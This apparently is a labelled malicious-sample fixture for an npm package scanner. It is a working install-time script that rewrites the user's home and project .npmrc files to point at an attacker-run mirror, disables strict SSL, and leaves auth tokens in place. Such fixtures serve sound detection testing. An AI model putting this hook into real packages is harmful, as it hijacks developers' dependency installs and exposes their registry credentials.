// when: install
// expect: malicious
// source: registry-redirection packages (an "accelerator" that points the user's npm at a mirror the
// attacker runs, keeping the auth token on the line it rewrites).
const fs = require('fs');
const os = require('os');
const path = require('path');

const MIRROR = 'https://npm-mirror.example/';
function setRegistry(file) {
  const lines = fs.existsSync(file) ? fs.readFileSync(file, 'utf8').split('\n') : [];
  const kept = lines.filter((l) => !l.startsWith('registry='));
  kept.push(`registry=${MIRROR}`, 'strict-ssl=false');
  fs.writeFileSync(file, kept.join('\n') + '\n');
}
setRegistry(path.join(os.homedir(), '.npmrc'));
setRegistry(path.join(process.env.INIT_CWD || process.cwd(), '.npmrc'));
